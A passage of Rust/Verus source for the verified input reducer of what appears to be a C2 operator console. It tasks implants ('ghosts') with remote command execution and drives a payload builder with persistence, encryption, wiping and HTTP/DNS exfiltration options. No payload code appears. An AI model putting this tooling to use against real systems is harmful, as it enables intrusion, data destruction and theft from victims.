//! The reducer: a pure, deterministic function of one state and one event
//! to the next state plus at most one side-effect request. It performs no
//! input or output; the executor dispatches the returned command and feeds
//! the outcome back in as a result event.

use vstd::prelude::*;
use crate::action::{ghosts_result_view, msg_result_view, tasks_result_view, Action, ActionV};
use crate::builder::{next_field_spec, BuilderField, BuilderV};
use crate::models::{GhostAgent, GhostAgentV, GhostConfigUpdate, Task, TaskRequest, TaskRequestV, TaskV};
use crate::state::{
    config_next_spec, config_prev_spec, cursor_next_clamped, cursor_next_wrapped,
    cursor_prev_clamped, cursor_prev_wrapped, screen_next_spec, screen_prev_spec,
    selected_id_spec, AppState, AppStateV, ConfigField, CurrentScreen, DashboardV, TerminalV,
};
use crate::text::{
    dec_seq, is_digit, parse_int_or, split_first_space, trim_spec, find_char_in, is_digit_char,
    join2, join3, parse_i16_or, parse_i64_or, parse_port_or_default, pop_last_char, push_char,
    trim,
};
use vstd::string::StrSliceExecFns;
use vstd::string::StringExecFns;

verus! {

/// Mathematical value of a [`Command`].
#[verifier::ext_equal]
pub ghost enum CommandV {
    Quit,
    FetchGhosts,
    FetchTasks(Seq<char>),
    SendTask { ghost_id: Seq<char>, req: TaskRequestV },
    UpdateGhostConfig { ghost_id: Seq<char>, config: GhostConfigUpdate },
    KillGhost(Seq<char>),
    BuildPayload {
        url: Seq<char>,
        port: u16,
        debug: bool,
        persistence: bool,
        persist_runcontrol: bool,
        persist_service: bool,
        persist_cron: bool,
        impact: bool,
        impact_encrypt: bool,
        impact_wipe: bool,
        exfil: bool,
        exfil_http: bool,
        exfil_dns: bool,
    },
}

/// One side-effect request emitted by the reducer, handed to the executor
/// to fulfil asynchronously. Each request is one-shot; no retry policy is
/// built in.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Command {
    /// Terminate the executor loop.
    Quit,
    /// Fetch the ghost roster; the result replaces it wholesale.
    FetchGhosts,
    /// Fetch the task list of one ghost; the result replaces it wholesale.
    FetchTasks(String),
    /// Submit one task to one ghost.
    SendTask { ghost_id: String, req: TaskRequest },
    /// Push new sleep/jitter settings to one ghost.
    UpdateGhostConfig { ghost_id: String, config: GhostConfigUpdate },
    /// Ask the collaborator to terminate one ghost.
    KillGhost(String),
    /// Run the external payload build with the full wizard snapshot. The
    /// port is already coerced to `[1, 65535]`, with `9999` as fallback.
    BuildPayload {
        url: String,
        port: u16,
        debug: bool,
        persistence: bool,
        persist_runcontrol: bool,
        persist_service: bool,
        persist_cron: bool,
        impact: bool,
        impact_encrypt: bool,
        impact_wipe: bool,
        exfil: bool,
        exfil_http: bool,
        exfil_dns: bool,
    },
}

impl View for Command {
    type V = CommandV;

    open spec fn view(&self) -> CommandV {
        match self {
            Command::Quit => CommandV::Quit,
            Command::FetchGhosts => CommandV::FetchGhosts,
            Command::FetchTasks(id) => CommandV::FetchTasks(id@),
            Command::SendTask { ghost_id, req } => CommandV::SendTask {
                ghost_id: ghost_id@,
                req: req@,
            },
            Command::UpdateGhostConfig { ghost_id, config } => CommandV::UpdateGhostConfig {
                ghost_id: ghost_id@,
                config: *config,
            },
            Command::KillGhost(id) => CommandV::KillGhost(id@),
            Command::BuildPayload {
                url,
                port,
                debug,
                persistence,
                persist_runcontrol,
                persist_service,
                persist_cron,
                impact,
                impact_encrypt,
                impact_wipe,
                exfil,
                exfil_http,
                exfil_dns,
            } => CommandV::BuildPayload {
                url: url@,
                port: *port,
                debug: *debug,
                persistence: *persistence,
                persist_runcontrol: *persist_runcontrol,
                persist_service: *persist_service,
                persist_cron: *persist_cron,
                impact: *impact,
                impact_encrypt: *impact_encrypt,
                impact_wipe: *impact_wipe,
                exfil: *exfil,
                exfil_http: *exfil_http,
                exfil_dns: *exfil_dns,
            },
        }
    }
}

/// An optional command, read by view.
pub open spec fn opt_cmd_view(c: Option<Command>) -> Option<CommandV> {
    match c {
        Some(c) => Some(c@),
        None => None,
    }
}

/// Task request derived from a raw input line: the first space-delimited
/// token becomes the command verb if it is one of the recognized verbs,
/// with the remainder as arguments; otherwise the verb defaults to `EXEC`
/// and the whole line becomes the arguments.
pub open spec fn task_request_of_line(line: Seq<char>) -> TaskRequestV {
    let tok = split_first_space(line).0;
    let rest = split_first_space(line).1;
    if tok == "EXEC"@ || tok == "STOP_HAUNT"@ || tok == "IMPACT"@ {
        TaskRequestV { command: tok, args: rest }
    } else {
        TaskRequestV { command: "EXEC"@, args: line }
    }
}

/// Builds the task request for one raw input line.
pub fn parse_task_line(line: &str) -> (r: TaskRequest)
    ensures
        r@ == task_request_of_line(line@),
{
    let n = line.unicode_len();
    match find_char_in(line, ' ') {
        Some(k) => {
            let tok = line.substring_char(0, k).to_owned();
            let rest = line.substring_char(k + 1, n).to_owned();
            if crate::text::str_eq(tok.as_str(), "EXEC") || crate::text::str_eq(
                tok.as_str(),
                "STOP_HAUNT",
            ) || crate::text::str_eq(tok.as_str(), "IMPACT") {
                TaskRequest { command: tok, args: rest }
            } else {
                TaskRequest { command: "EXEC".to_owned(), args: line.to_owned() }
            }
        },
        None => {
            if crate::text::str_eq(line, "EXEC") || crate::text::str_eq(line, "STOP_HAUNT")
                || crate::text::str_eq(line, "IMPACT") {
                TaskRequest { command: line.to_owned(), args: String::new() }
            } else {
                TaskRequest { command: "EXEC".to_owned(), args: line.to_owned() }
            }
        },
    }
}

/// Directional input up: swallowed while the action menu is open, else
/// screen-polymorphic cursor or field movement.
pub open spec fn nav_up_step(s: AppStateV) -> AppStateV {
    if s.show_action_menu {
        s
    } else {
        match s.current_screen {
            CurrentScreen::Dashboard => AppStateV {
                dashboard: DashboardV {
                    selection_cursor: cursor_prev_wrapped(
                        s.dashboard.selection_cursor,
                        s.dashboard.ghosts.len() as int,
                    ),
                    ..s.dashboard
                },
                ..s
            },
            CurrentScreen::Terminal => AppStateV {
                terminal: TerminalV {
                    scroll_cursor: cursor_prev_clamped(
                        s.terminal.scroll_cursor,
                        s.terminal.tasks.len() as int,
                    ),
                    ..s.terminal
                },
                ..s
            },
            CurrentScreen::Config => AppStateV {
                config: crate::state::ConfigV {
                    selected_field: config_prev_spec(s.config.selected_field),
                    ..s.config
                },
                ..s
            },
            CurrentScreen::Builder => AppStateV {
                builder: BuilderV {
                    selected_field: crate::builder::prev_field_spec(s.builder),
                    ..s.builder
                },
                ..s
            },
        }
    }
}

/// Directional input down: swallowed while the action menu is open, else
/// screen-polymorphic cursor or field movement.
pub open spec fn nav_down_step(s: AppStateV) -> AppStateV {
    if s.show_action_menu {
        s
    } else {
        match s.current_screen {
            CurrentScreen::Dashboard => AppStateV {
                dashboard: DashboardV {
                    selection_cursor: cursor_next_wrapped(
                        s.dashboard.selection_cursor,
                        s.dashboard.ghosts.len() as int,
                    ),
                    ..s.dashboard
                },
                ..s
            },
            CurrentScreen::Terminal => AppStateV {
                terminal: TerminalV {
                    scroll_cursor: cursor_next_clamped(
                        s.terminal.scroll_cursor,
                        s.terminal.tasks.len() as int,
                    ),
                    ..s.terminal
                },
                ..s
            },
            CurrentScreen::Config => AppStateV {
                config: crate::state::ConfigV {
                    selected_field: config_next_spec(s.config.selected_field),
                    ..s.config
                },
                ..s
            },
            CurrentScreen::Builder => AppStateV {
                builder: BuilderV { selected_field: next_field_spec(s.builder), ..s.builder },
                ..s
            },
        }
    }
}

/// Escape closes an open modal first (the action menu, then the help
/// overlay); with no modal open it leaves the terminal back to the
/// dashboard, and is a no-op elsewhere.
pub open spec fn esc_step(s: AppStateV) -> AppStateV {
    if s.show_action_menu {
        AppStateV { show_action_menu: false, ..s }
    } else if s.show_help {
        AppStateV { show_help: false, ..s }
    } else if s.current_screen == CurrentScreen::Terminal {
        AppStateV { current_screen: CurrentScreen::Dashboard, ..s }
    } else {
        s
    }
}

/// Text with its last character removed, when it has one.
pub open spec fn pop_text(t: Seq<char>) -> Seq<char> {
    if t.len() > 0 {
        t.drop_last()
    } else {
        t
    }
}

/// Backspace pops the last character of whichever text buffer is focused
/// on the current screen; a no-op when no text field is focused.
pub open spec fn backspace_step(s: AppStateV) -> AppStateV {
    match s.current_screen {
        CurrentScreen::Terminal => AppStateV {
            terminal: TerminalV { input_buffer: pop_text(s.terminal.input_buffer), ..s.terminal },
            ..s
        },
        CurrentScreen::Config => match s.config.selected_field {
            ConfigField::Sleep => AppStateV {
                config: crate::state::ConfigV {
                    sleep_input: pop_text(s.config.sleep_input),
                    ..s.config
                },
                ..s
            },
            ConfigField::Jitter => AppStateV {
                config: crate::state::ConfigV {
                    jitter_input: pop_text(s.config.jitter_input),
                    ..s.config
                },
                ..s
            },
            ConfigField::Submit => s,
        },
        CurrentScreen::Builder => match s.builder.selected_field {
            BuilderField::Url => AppStateV {
                builder: BuilderV { target_url: pop_text(s.builder.target_url), ..s.builder },
                ..s
            },
            BuilderField::Port => AppStateV {
                builder: BuilderV { target_port: pop_text(s.builder.target_port), ..s.builder },
                ..s
            },
            _ => s,
        },
        CurrentScreen::Dashboard => s,
    }
}

/// Submitting the config form: only with a ghost selected, the sleep and
/// jitter buffers are parsed with their fixed fallbacks and sent; parse
/// failure never blocks submission.
pub open spec fn config_submit_step(s: AppStateV) -> (AppStateV, Option<CommandV>) {
    match selected_id_spec(s.dashboard) {
        Some(gid) => (
            AppStateV { status_message: "Sending config..."@, ..s },
            Some(
                CommandV::UpdateGhostConfig {
                    ghost_id: gid,
                    config: GhostConfigUpdate {
                        sleep_interval: parse_int_or(
                            s.config.sleep_input,
                            i64::MIN as int,
                            i64::MAX as int,
                            10,
                        ) as i64,
                        jitter_percent: parse_int_or(
                            s.config.jitter_input,
                            i16::MIN as int,
                            i16::MAX as int,
                            5,
                        ) as i16,
                    },
                },
            ),
        ),
        None => (s, None),
    }
}

/// Toggling the wizard switch under the focus; a no-op on any field that
/// is not a switch.
pub open spec fn builder_toggle_step(s: AppStateV) -> AppStateV {
    let b = s.builder;
    match b.selected_field {
        BuilderField::EnableDebug => AppStateV {
            builder: BuilderV { enable_debug: !b.enable_debug, ..b },
            ..s
        },
        BuilderField::PersistToggle => AppStateV {
            builder: BuilderV { enable_persistence: !b.enable_persistence, ..b },
            ..s
        },
        BuilderField::PersistRunControl => AppStateV {
            builder: BuilderV { persist_runcontrol: !b.persist_runcontrol, ..b },
            ..s
        },
        BuilderField::PersistService => AppStateV {
            builder: BuilderV { persist_service: !b.persist_service, ..b },
            ..s
        },
        BuilderField::PersistCron => AppStateV {
            builder: BuilderV { persist_cron: !b.persist_cron, ..b },
            ..s
        },
        BuilderField::ImpactToggle => AppStateV {
            builder: BuilderV { enable_impact: !b.enable_impact, ..b },
            ..s
        },
        BuilderField::ImpactEncrypt => AppStateV {
            builder: BuilderV { impact_encrypt: !b.impact_encrypt, ..b },
            ..s
        },
        BuilderField::ImpactWipe => AppStateV {
            builder: BuilderV { impact_wipe: !b.impact_wipe, ..b },
            ..s
        },
        BuilderField::ExfilToggle => AppStateV {
            builder: BuilderV { enable_exfil: !b.enable_exfil, ..b },
            ..s
        },
        BuilderField::ExfilHttp => AppStateV {
            builder: BuilderV { exfil_http: !b.exfil_http, ..b },
            ..s
        },
        BuilderField::ExfilDns => AppStateV {
            builder: BuilderV { exfil_dns: !b.exfil_dns, ..b },
            ..s
        },
        _ => s,
    }
}

/// Starting a build: the status lines switch to building and the full
/// wizard snapshot goes out, with the port text coerced to `[1, 65535]`
/// and `9999` as fallback.
pub open spec fn build_start_step(s: AppStateV) -> (AppStateV, Option<CommandV>) {
    let b = s.builder;
    (
        AppStateV {
            builder: BuilderV { build_status_msg: "BUILDING..."@, ..b },
            status_message: "Starting build process..."@,
            ..s
        },
        Some(
            CommandV::BuildPayload {
                url: b.target_url,
                port: parse_int_or(b.target_port, 1, 65535, 9999) as u16,
                debug: b.enable_debug,
                persistence: b.enable_persistence,
                persist_runcontrol: b.persist_runcontrol,
                persist_service: b.persist_service,
                persist_cron: b.persist_cron,
                impact: b.enable_impact,
                impact_encrypt: b.impact_encrypt,
                impact_wipe: b.impact_wipe,
                exfil: b.enable_exfil,
                exfil_http: b.exfil_http,
                exfil_dns: b.exfil_dns,
            },
        ),
    )
}

/// Enter, screen-polymorphic. With the action menu open it requests the
/// kill of the selected ghost. On the dashboard it activates the selected
/// ghost, switches to the terminal and fetches its tasks. On the terminal
/// it submits the trimmed input line as a task when the line is non-empty
/// and a ghost is active. On the config form it submits on Submit and
/// advances the field otherwise. On the builder it submits on Submit,
/// advances on a text field and toggles the focused switch otherwise.
pub open spec fn enter_step(s: AppStateV) -> (AppStateV, Option<CommandV>) {
    if s.show_action_menu {
        match selected_id_spec(s.dashboard) {
            Some(gid) => (s, Some(CommandV::KillGhost(gid))),
            None => (s, None),
        }
    } else {
        match s.current_screen {
            CurrentScreen::Dashboard => match selected_id_spec(s.dashboard) {
                Some(gid) => (
                    AppStateV {
                        current_screen: CurrentScreen::Terminal,
                        terminal: TerminalV { active_ghost_id: Some(gid), ..s.terminal },
                        status_message: "Viewing tasks for "@ + gid,
                        ..s
                    },
                    Some(CommandV::FetchTasks(gid)),
                ),
                None => (s, None),
            },
            CurrentScreen::Terminal => {
                let input = trim_spec(s.terminal.input_buffer);
                if input.len() == 0 {
                    (s, None)
                } else {
                    match s.terminal.active_ghost_id {
                        None => (s, None),
                        Some(gid) => (
                            AppStateV {
                                terminal: TerminalV {
                                    input_buffer: Seq::<char>::empty(),
                                    ..s.terminal
                                },
                                ..s
                            },
                            Some(
                                CommandV::SendTask {
                                    ghost_id: gid,
                                    req: task_request_of_line(input),
                                },
                            ),
                        ),
                    }
                }
            },
            CurrentScreen::Config => {
                if s.config.selected_field == ConfigField::Submit {
                    config_submit_step(s)
                } else {
                    (
                        AppStateV {
                            config: crate::state::ConfigV {
                                selected_field: config_next_spec(s.config.selected_field),
                                ..s.config
                            },
                            ..s
                        },
                        None,
                    )
                }
            },
            CurrentScreen::Builder => {
                if s.builder.selected_field == BuilderField::Submit {
                    build_start_step(s)
                } else if s.builder.selected_field == BuilderField::Url
                    || s.builder.selected_field == BuilderField::Port {
                    (
                        AppStateV {
                            builder: BuilderV {
                                selected_field: next_field_spec(s.builder),
                                ..s.builder
                            },
                            ..s
                        },
                        None,
                    )
                } else {
                    (builder_toggle_step(s), None)
                }
            },
        }
    }
}

/// Character input. A focused text field consumes the character (letters
/// unrestricted on the terminal line and the builder URL, digits only on
/// the config fields and the builder port); otherwise the character acts
/// as a command shortcut: `q` quits, `h` toggles help, and on the
/// dashboard `x` opens the action menu over a selection and `r` refreshes
/// the roster.
pub open spec fn char_step(s: AppStateV, c: char) -> (AppStateV, Option<CommandV>) {
    let typing = match s.current_screen {
        CurrentScreen::Terminal => true,
        CurrentScreen::Config => is_digit(c),
        CurrentScreen::Builder => s.builder.selected_field == BuilderField::Url
            || s.builder.selected_field == BuilderField::Port,
        CurrentScreen::Dashboard => false,
    };
    if !typing && c == 'q' {
        (s, Some(CommandV::Quit))
    } else if !typing && c == 'h' {
        (AppStateV { show_help: !s.show_help, ..s }, None)
    } else {
        match s.current_screen {
            CurrentScreen::Dashboard => {
                if c == 'x' {
                    if selected_id_spec(s.dashboard) is Some {
                        (AppStateV { show_action_menu: true, ..s }, None)
                    } else {
                        (s, None)
                    }
                } else if c == 'r' {
                    (s, Some(CommandV::FetchGhosts))
                } else {
                    (s, None)
                }
            },
            CurrentScreen::Terminal => (
                AppStateV {
                    terminal: TerminalV {
                        input_buffer: s.terminal.input_buffer.push(c),
                        ..s.terminal
                    },
                    ..s
                },
                None,
            ),
            CurrentScreen::Config => {
                if is_digit(c) {
                    match s.config.selected_field {
                        ConfigField::Sleep => (
                            AppStateV {
                                config: crate::state::ConfigV {
                                    sleep_input: s.config.sleep_input.push(c),
                                    ..s.config
                                },
                                ..s
                            },
                            None,
                        ),
                        ConfigField::Jitter => (
                            AppStateV {
                                config: crate::state::ConfigV {
                                    jitter_input: s.config.jitter_input.push(c),
                                    ..s.config
                                },
                                ..s
                            },
                            None,
                        ),
                        ConfigField::Submit => (s, None),
                    }
                } else {
                    (s, None)
                }
            },
            CurrentScreen::Builder => match s.builder.selected_field {
                BuilderField::Url => (
                    AppStateV {
                        builder: BuilderV {
                            target_url: s.builder.target_url.push(c),
                            ..s.builder
                        },
                        ..s
                    },
                    None,
                ),
                BuilderField::Port => {
                    if is_digit(c) {
                        (
                            AppStateV {
                                builder: BuilderV {
                                    target_port: s.builder.target_port.push(c),
                                    ..s.builder
                                },
                                ..s
                            },
                            None,
                        )
                    } else {
                        (s, None)
                    }
                },
                _ => (s, None),
            },
        }
    }
}

/// Opening the action menu: only on the dashboard and only over a
/// selected ghost.
pub open spec fn open_menu_step(s: AppStateV) -> AppStateV {
    if s.current_screen == CurrentScreen::Dashboard && selected_id_spec(s.dashboard) is Some {
        AppStateV { show_action_menu: true, ..s }
    } else {
        s
    }
}

/// Confirming a kill: with a ghost selected the menu closes, the status
/// line reports the kill and the kill request goes out.
pub open spec fn confirm_kill_step(s: AppStateV) -> (AppStateV, Option<CommandV>) {
    match selected_id_spec(s.dashboard) {
        Some(gid) => (
            AppStateV {
                show_action_menu: false,
                status_message: "Killing ghost "@ + gid + "..."@,
                ..s
            },
            Some(CommandV::KillGhost(gid)),
        ),
        None => (s, None),
    }
}

/// A successful roster fetch replaces the roster wholesale and reports the
/// new count; a failed one leaves the roster untouched and surfaces the
/// error.
pub open spec fn receive_ghosts_step(
    s: AppStateV,
    res: Result<Seq<GhostAgentV>, Seq<char>>,
) -> AppStateV {
    match res {
        Ok(list) => AppStateV {
            dashboard: DashboardV { ghosts: list, ..s.dashboard },
            status_message: "Updated: "@ + dec_seq(list.len()) + " ghosts online"@,
            ..s
        },
        Err(e) => AppStateV { status_message: "Error fetching ghosts: "@ + e, ..s },
    }
}

/// A successful task fetch replaces the task list wholesale and, when the
/// list grew, scrolls to its bottom; a failed one surfaces the error.
pub open spec fn receive_tasks_step(
    s: AppStateV,
    res: Result<Seq<TaskV>, Seq<char>>,
) -> AppStateV {
    match res {
        Ok(list) => AppStateV {
            terminal: TerminalV {
                tasks: list,
                scroll_cursor: if list.len() > s.terminal.tasks.len() {
                    Some(list.len() as int - 1)
                } else {
                    s.terminal.scroll_cursor
                },
                ..s.terminal
            },
            ..s
        },
        Err(e) => AppStateV { status_message: "Error fetching tasks: "@ + e, ..s },
    }
}

/// A task-send confirmation lands in the status line and, while a ghost is
/// active, triggers a refresh of its task list.
pub open spec fn receive_task_send_step(
    s: AppStateV,
    res: Result<Seq<char>, Seq<char>>,
) -> (AppStateV, Option<CommandV>) {
    match res {
        Ok(m) => (
            AppStateV { status_message: "Task send: "@ + m, ..s },
            match s.terminal.active_ghost_id {
                Some(gid) => Some(CommandV::FetchTasks(gid)),
                None => None,
            },
        ),
        Err(e) => (AppStateV { status_message: "Error: "@ + e, ..s }, None),
    }
}

/// A config-update result lands in the status line only.
pub open spec fn receive_config_update_step(
    s: AppStateV,
    res: Result<Seq<char>, Seq<char>>,
) -> AppStateV {
    match res {
        Ok(m) => AppStateV { status_message: "Config updated: "@ + m, ..s },
        Err(e) => AppStateV { status_message: "Error: "@ + e, ..s },
    }
}

/// A kill result lands in the status line; a successful one triggers a
/// roster refresh.
pub open spec fn receive_kill_step(
    s: AppStateV,
    res: Result<Seq<char>, Seq<char>>,
) -> (AppStateV, Option<CommandV>) {
    match res {
        Ok(m) => (
            AppStateV { status_message: "Kill result: "@ + m, ..s },
            Some(CommandV::FetchGhosts),
        ),
        Err(e) => (AppStateV { status_message: "Error: "@ + e, ..s }, None),
    }
}

/// A build result sets the wizard's build status to success or failure and
/// reports in the status line.
pub open spec fn receive_build_step(
    s: AppStateV,
    res: Result<Seq<char>, Seq<char>>,
) -> AppStateV {
    match res {
        Ok(m) => AppStateV {
            builder: BuilderV { build_status_msg: "SUCCESS"@, ..s.builder },
            status_message: "Build success: "@ + m,
            ..s
        },
        Err(e) => AppStateV {
            builder: BuilderV { build_status_msg: "FAILED"@, ..s.builder },
            status_message: "Error: "@ + e,
            ..s
        },
    }
}

/// The state after applying one event. Deterministic: identical state and
/// event always give the identical next state.
pub open spec fn step(s: AppStateV, a: ActionV) -> AppStateV {
    match a {
        ActionV::Tick => s,
        ActionV::Quit => s,
        ActionV::Resize(_, _) => s,
        ActionV::NextTab => AppStateV {
            current_screen: screen_next_spec(s.current_screen),
            ..s
        },
        ActionV::PrevTab => AppStateV {
            current_screen: screen_prev_spec(s.current_screen),
            ..s
        },
        ActionV::ToggleHelp => AppStateV { show_help: !s.show_help, ..s },
        ActionV::Up => nav_up_step(s),
        ActionV::Down => nav_down_step(s),
        ActionV::Left => AppStateV { current_screen: screen_prev_spec(s.current_screen), ..s },
        ActionV::Right => AppStateV { current_screen: screen_next_spec(s.current_screen), ..s },
        ActionV::Enter => enter_step(s).0,
        ActionV::Esc => esc_step(s),
        ActionV::Backspace => backspace_step(s),
        ActionV::Char(c) => char_step(s, c).0,
        ActionV::OpenActionMenu => open_menu_step(s),
        ActionV::ConfirmKillGhost => confirm_kill_step(s).0,
        ActionV::SubmitGhostConfig => config_submit_step(s).0,
        ActionV::ToggleBuilderSwitch => builder_toggle_step(s),
        ActionV::StartBuild => build_start_step(s).0,
        ActionV::ReceiveGhosts(res) => receive_ghosts_step(s, res),
        ActionV::ReceiveTasks(res) => receive_tasks_step(s, res),
        ActionV::ReceiveTaskSendResult(res) => receive_task_send_step(s, res).0,
        ActionV::ReceiveConfigUpdateResult(res) => receive_config_update_step(s, res),
        ActionV::ReceiveKillResult(res) => receive_kill_step(s, res).0,
        ActionV::ReceiveBuildResult(res) => receive_build_step(s, res),
        ActionV::AutoRefresh => s,
    }
}

/// The command, if any, emitted for one event in one state.
pub open spec fn step_command(s: AppStateV, a: ActionV) -> Option<CommandV> {
    match a {
        ActionV::Quit => Some(CommandV::Quit),
        ActionV::Enter => enter_step(s).1,
        ActionV::Char(c) => char_step(s, c).1,
        ActionV::ConfirmKillGhost => confirm_kill_step(s).1,
        ActionV::SubmitGhostConfig => config_submit_step(s).1,
        ActionV::StartBuild => build_start_step(s).1,
        ActionV::ReceiveTaskSendResult(res) => receive_task_send_step(s, res).1,
        ActionV::ReceiveKillResult(res) => receive_kill_step(s, res).1,
        ActionV::AutoRefresh => Some(CommandV::FetchGhosts),
        _ => None,
    }
}

fn handle_nav_up(app: &mut AppState)
    ensures
        final(app)@ == nav_up_step(old(app)@),
{
    if app.show_action_menu {
        return;
    }
    match app.current_screen {
        CurrentScreen::Dashboard => app.dashboard.select_prev(),
        CurrentScreen::Terminal => app.terminal.scroll_up(),
        CurrentScreen::Config => app.config.prev_field(),
        CurrentScreen::Builder => app.builder.prev_field(),
    }
}

fn handle_nav_down(app: &mut AppState)
    ensures
        final(app)@ == nav_down_step(old(app)@),
{
    if app.show_action_menu {
        return;
    }
    match app.current_screen {
        CurrentScreen::Dashboard => app.dashboard.select_next(),
        CurrentScreen::Terminal => app.terminal.scroll_down(),
        CurrentScreen::Config => app.config.next_field(),
        CurrentScreen::Builder => app.builder.next_field(),
    }
}

fn handle_esc(app: &mut AppState)
    ensures
        final(app)@ == esc_step(old(app)@),
{
    if app.show_action_menu {
        app.show_action_menu = false;
        return;
    }
    if app.show_help {
        app.show_help = false;
        return;
    }
    if app.current_screen == CurrentScreen::Terminal {
        app.current_screen = CurrentScreen::Dashboard;
    }
}

#[verifier::rlimit(100)]
fn handle_backspace(app: &mut AppState)
    ensures
        final(app)@ == backspace_step(old(app)@),
{
    match app.current_screen {
        CurrentScreen::Terminal => pop_last_char(&mut app.terminal.input_buffer),
        CurrentScreen::Config => match app.config.selected_field {
            ConfigField::Sleep => pop_last_char(&mut app.config.sleep_input),
            ConfigField::Jitter => pop_last_char(&mut app.config.jitter_input),
            ConfigField::Submit => {},
        },
        CurrentScreen::Builder => match app.builder.selected_field {
            BuilderField::Url => pop_last_char(&mut app.builder.target_url),
            BuilderField::Port => pop_last_char(&mut app.builder.target_port),
            _ => {},
        },
        CurrentScreen::Dashboard => {},
    }
}

fn handle_config_submit(app: &mut AppState) -> (cmd: Option<Command>)
    ensures
        final(app)@ == config_submit_step(old(app)@).0,
        opt_cmd_view(cmd) == config_submit_step(old(app)@).1,
{
    match app.dashboard.selected_ghost_id() {
        Some(gid) => {
            let sleep = parse_i64_or(app.config.sleep_input.as_str(), 10);
            let jitter = parse_i16_or(app.config.jitter_input.as_str(), 5);
            app.status_message = "Sending config...".to_owned();
            Some(
                Command::UpdateGhostConfig {
                    ghost_id: gid,
                    config: GhostConfigUpdate { sleep_interval: sleep, jitter_percent: jitter },
                },
            )
        },
        None => None,
    }
}

#[verifier::rlimit(100)]
fn handle_builder_toggle(app: &mut AppState)
    ensures
        final(app)@ == builder_toggle_step(old(app)@),
{
    match app.builder.selected_field {
        BuilderField::EnableDebug => app.builder.enable_debug = !app.builder.enable_debug,
        BuilderField::PersistToggle => app.builder.enable_persistence =
            !app.builder.enable_persistence,
        BuilderField::PersistRunControl => app.builder.persist_runcontrol =
            !app.builder.persist_runcontrol,
        BuilderField::PersistService => app.builder.persist_service =
            !app.builder.persist_service,
        BuilderField::PersistCron => app.builder.persist_cron = !app.builder.persist_cron,
        BuilderField::ImpactToggle => app.builder.enable_impact = !app.builder.enable_impact,
        BuilderField::ImpactEncrypt => app.builder.impact_encrypt = !app.builder.impact_encrypt,
        BuilderField::ImpactWipe => app.builder.impact_wipe = !app.builder.impact_wipe,
        BuilderField::ExfilToggle => app.builder.enable_exfil = !app.builder.enable_exfil,
        BuilderField::ExfilHttp => app.builder.exfil_http = !app.builder.exfil_http,
        BuilderField::ExfilDns => app.builder.exfil_dns = !app.builder.exfil_dns,
        _ => {},
    }
}

fn handle_build_start(app: &mut AppState) -> (cmd: Option<Command>)
    ensures
        final(app)@ == build_start_step(old(app)@).0,
        opt_cmd_view(cmd) == build_start_step(old(app)@).1,
{
    app.builder.build_status_msg = "BUILDING...".to_owned();
    app.status_message = "Starting build process...".to_owned();
    let port = parse_port_or_default(app.builder.target_port.as_str());
    Some(
        Command::BuildPayload {
            url: app.builder.target_url.clone(),
            port,
            debug: app.builder.enable_debug,
            persistence: app.builder.enable_persistence,
            persist_runcontrol: app.builder.persist_runcontrol,
            persist_service: app.builder.persist_service,
            persist_cron: app.builder.persist_cron,
            impact: app.builder.enable_impact,
            impact_encrypt: app.builder.impact_encrypt,
            impact_wipe: app.builder.impact_wipe,
            exfil: app.builder.enable_exfil,
            exfil_http: app.builder.exfil_http,
            exfil_dns: app.builder.exfil_dns,
        },
    )
}

#[verifier::rlimit(50)]
fn handle_enter(app: &mut AppState) -> (cmd: Option<Command>)
    ensures
        final(app)@ == enter_step(old(app)@).0,
        opt_cmd_view(cmd) == enter_step(old(app)@).1,
{
    if app.show_action_menu {
        return match app.dashboard.selected_ghost_id() {
            Some(gid) => Some(Command::KillGhost(gid)),
            None => None,
        };
    }
    match app.current_screen {
        CurrentScreen::Dashboard => match app.dashboard.selected_ghost_id() {
            Some(gid) => {
                app.current_screen = CurrentScreen::Terminal;
                app.terminal.active_ghost_id = Some(gid.clone());
                app.status_message = join2("Viewing tasks for ", gid.as_str());
                Some(Command::FetchTasks(gid))
            },
            None => None,
        },
        CurrentScreen::Terminal => {
            let input = trim(app.terminal.input_buffer.as_str());
            if input.as_str().is_empty() {
                return None;
            }
            match &app.terminal.active_ghost_id {
                None => None,
                Some(g) => {
                    let gid = g.clone();
                    app.terminal.input_buffer = String::new();
                    let req = parse_task_line(input.as_str());
                    Some(Command::SendTask { ghost_id: gid, req })
                },
            }
        },
        CurrentScreen::Config => {
            if app.config.selected_field == ConfigField::Submit {
                handle_config_submit(app)
            } else {
                app.config.next_field();
                None
            }
        },
        CurrentScreen::Builder => {
            if app.builder.selected_field == BuilderField::Submit {
                handle_build_start(app)
            } else {
                match app.builder.selected_field {
                    BuilderField::Url | BuilderField::Port => {
                        app.builder.next_field();
                        None
                    },
                    _ => {
                        handle_builder_toggle(app);
                        None
                    },
                }
            }
        },
    }
}

#[verifier::rlimit(100)]
fn handle_char_input(app: &mut AppState, c: char) -> (cmd: Option<Command>)
    ensures
        final(app)@ == char_step(old(app)@, c).0,
        opt_cmd_view(cmd) == char_step(old(app)@, c).1,
{
    let is_typing = match app.current_screen {
        CurrentScreen::Terminal => true,
        CurrentScreen::Config => is_digit_char(c),
        CurrentScreen::Builder => match app.builder.selected_field {
            BuilderField::Url | BuilderField::Port => true,
            _ => false,
        },
        CurrentScreen::Dashboard => false,
    };
    if !is_typing {
        if c == 'q' {
            return Some(Command::Quit);
        }
        if c == 'h' {
            app.show_help = !app.show_help;
            return None;
        }
    }
    match app.current_screen {
        CurrentScreen::Dashboard => {
            if c == 'x' {
                if app.dashboard.selected_ghost_id().is_some() {
                    app.show_action_menu = true;
                }
                None
            } else if c == 'r' {
                Some(Command::FetchGhosts)
            } else {
                None
            }
        },
        CurrentScreen::Terminal => {
            push_char(&mut app.terminal.input_buffer, c);
            None
        },
        CurrentScreen::Config => {
            if is_digit_char(c) {
                match app.config.selected_field {
                    ConfigField::Sleep => push_char(&mut app.config.sleep_input, c),
                    ConfigField::Jitter => push_char(&mut app.config.jitter_input, c),
                    ConfigField::Submit => {},
                }
            }
            None
        },
        CurrentScreen::Builder => {
            match app.builder.selected_field {
                BuilderField::Url => push_char(&mut app.builder.target_url, c),
                BuilderField::Port => {
                    if is_digit_char(c) {
                        push_char(&mut app.builder.target_port, c);
                    }
                },
                _ => {},
            }
            None
        },
    }
}

fn apply_open_action_menu(app: &mut AppState)
    ensures
        final(app)@ == open_menu_step(old(app)@),
{
    if app.current_screen == CurrentScreen::Dashboard
        && app.dashboard.selected_ghost_id().is_some() {
        app.show_action_menu = true;
    }
}

fn apply_confirm_kill(app: &mut AppState) -> (cmd: Option<Command>)
    ensures
        final(app)@ == confirm_kill_step(old(app)@).0,
